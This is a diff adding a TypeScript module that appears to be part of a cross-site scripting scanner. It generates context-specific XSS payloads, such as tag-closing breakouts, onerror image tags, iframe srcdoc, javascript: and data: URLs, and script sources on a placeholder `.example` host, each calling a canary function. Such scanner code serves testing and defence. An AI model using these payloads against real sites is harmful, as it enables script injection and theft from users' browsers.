@@ -1,0 +1,86 @@
+import type { Flow } from '../../../evidence/facts/trial.ts';
+import { type Context, contextsOf, isOpened } from '../reflection/contexts.ts';
+import { lexicalAt } from '../reflection/lexical.ts';
+import { outOfCode } from '../reflection/payloads.ts';
+
+const CLOSES = `'"></title></textarea></style></script></template></select>-->`;
+
+/** Values that call the function of a token where the flow ends, the most promising first; none if nothing there runs. */
+export function payloadsAt(flow: Flow, token: string, page: string): readonly string[] {
+  const { kind, text } = flow;
+  const at = text.toLowerCase().indexOf(flow.token);
+  const call = `x${token}()`;
+  switch (kind) {
+    case 'html':
+      return inMarkup(flow, token);
+    case 'code':
+      return outOfCode(lexicalAt(text, at), call);
+    case 'script address':
+      return inScriptAddress(text.slice(0, at), token);
+    case 'navigation':
+      return URL.parse(flow.token, page)?.href === text ? [`javascript:${call}//`] : [];
+    case 'attribute':
+      return inAttribute(flow, token);
+  }
+}
+
+/** The same value without the call. */
+export function neutral(payload: string, token: string): string {
+  return payload.replaceAll(`x${token}()`, `x${token}`).replaceAll(`${token}.example`, `${token}.invalid`);
+}
+
+function element(token: string): string {
+  return `<img src onerror=x${token}()>`;
+}
+
+function inMarkup({ text, token: seen }: Flow, token: string): string[] {
+  const contexts = contextsOf(text, seen) ?? [];
+  const found = contexts.flatMap((context) => outOfMarkup(context, token));
+  return [...new Set([...found, `${CLOSES}${element(token)}`])];
+}
+
+function outOfMarkup(context: Context, token: string): readonly string[] {
+  const call = `x${token}()`;
+  switch (context.kind) {
+    case 'text':
+      return [element(token), `<iframe srcdoc="${element(token)}">`];
+    case 'comment':
+      return [`-->${element(token)}`];
+    case 'tag name':
+    case 'attribute name':
+      return [`a>${element(token)}`];
+    case 'data script':
+      return [`</script>${element(token)}`];
+    case 'raw text':
+      return [`</${context.tag}>${element(token)}`];
+    case 'attribute':
+      return [`${context.quote || 'a'}>${element(token)}`, `a${context.quote} onfocus=${call} x=${context.quote}`];
+    case 'nested page':
+      return [element(token), `&lt;img src onerror=${call}&gt;`];
+    case 'address':
+      return [`javascript:${call}//`, `${context.quote || 'a'}>${element(token)}`];
+    case 'script address':
+      return [`//${token}.example/`, `https://${token}.example/`];
+    case 'event handler':
+      return outOfCode(context.lexical, call);
+    case 'script':
+      return [...outOfCode(context.lexical, call).slice(0, 2), `</script>${element(token)}`];
+  }
+}
+
+function inScriptAddress(before: string, token: string): readonly string[] {
+  if (before === '') return [`//${token}.example/`, `https://${token}.example/`, `data:text/javascript,x${token}()`];
+  if (/^(?:https?:)?\/\/[\w.-]{0,60}$/i.test(before)) return [`${token}.example/`, `.${token}.example/`];
+  return /^\/[\w.-]{0,60}$/.test(before) ? [`/${token}.example/`] : [];
+}
+
+function inAttribute({ sink, text, token: seen }: Flow, token: string): readonly string[] {
+  const [tag, name = ''] = sink.split(' ');
+  const call = `x${token}()`;
+  const at = text.toLowerCase().indexOf(seen);
+  if (name.startsWith('on')) return outOfCode(lexicalAt(text, at), call);
+  if (!isOpened(tag, name)) return [];
+  const code = /^\s{0,9}javascript:/i.exec(text)?.[0];
+  if (code !== undefined) return outOfCode(lexicalAt(text.slice(code.length), at - code.length), call);
+  return text.slice(0, at).trim() === '' ? [`javascript:${call}//`] : [];
+}
